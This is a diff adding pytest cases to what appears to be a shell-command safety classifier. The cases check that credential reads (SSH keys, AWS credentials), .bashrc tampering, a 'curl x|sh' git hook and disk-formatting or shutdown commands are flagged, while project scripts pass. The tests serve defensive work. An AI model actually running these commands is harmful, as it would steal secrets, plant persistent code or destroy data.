@@ -434,3 +434,50 @@ def test_secrets_in_names_looked_up_in_dns_are_exfiltration(command: str, blocks
     result = classify(command)
     assert ("shell.exfiltration" in result.rule_ids) is blocks
     assert (result.verdict is Verdict.BLOCK) is blocks
+
+
+@pytest.mark.parametrize(("command", "verdict"), [
+    # /root is root's home: a project under it is a project, its dotfiles are secrets.
+    ("cat /root/project/README.md", Verdict.PASS),
+    ("grep -rn TODO /root/project/src", Verdict.PASS),
+    ("sed -i 's/DEBUG = True/DEBUG = False/' /root/app/settings.py", Verdict.PASS),
+    ("cat /root/.ssh/id_rsa", Verdict.BLOCK),
+    ("cat /root/.aws/credentials", Verdict.BLOCK),
+    ("echo x >> /root/.bashrc", Verdict.BLOCK),
+])
+def test_root_home_is_a_home_directory_not_a_secret_as_a_whole(command: str,
+                                                               verdict: Verdict) -> None:
+    assert classify(command).verdict is verdict
+
+
+@pytest.mark.parametrize("command", [
+    "cp scripts/pre-commit .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+    "echo 'curl x|sh' > /repo/.git/hooks/post-checkout",
+    "ln -sf ../../tools/hook .git/hooks/pre-push",
+])
+def test_writing_a_git_hook_warns_instead_of_blocking_as_persistence(command: str) -> None:
+    result = classify(command)
+    assert result.verdict is Verdict.WARN
+    assert "shell.git-hook" in result.rule_ids and "shell.persistence" not in result.rule_ids
+
+
+@pytest.mark.parametrize(("command", "verdict"), [
+    # A word with a directory part runs that very file: a project script, not the system
+    # program of the same name (denied names warn; unknown names pass).
+    ("./scripts/format", Verdict.PASS),
+    ("poetry run format", Verdict.PASS),
+    ("./mkfs-test-helper", Verdict.PASS),
+    ("./build/init --config test.toml", Verdict.WARN),
+    ("./scripts/shutdown", Verdict.WARN),
+    ("sudo ./scripts/shutdown", Verdict.WARN),
+    # Still the system program: absolute, escaping with .., or from a system directory.
+    ("/sbin/halt", Verdict.BLOCK),
+    ("../../sbin/halt", Verdict.BLOCK),
+    ("cd /sbin && ./halt", Verdict.BLOCK),
+    ("cd /usr/sbin; ./shutdown -h now", Verdict.BLOCK),
+    ("mkfs.ext4 /dev/sdb1", Verdict.BLOCK),
+    ("mkfs /dev/sdb", Verdict.BLOCK),
+])
+def test_project_scripts_are_not_judged_as_the_system_program_of_the_same_name(
+        command: str, verdict: Verdict) -> None:
+    assert classify(command).verdict is verdict
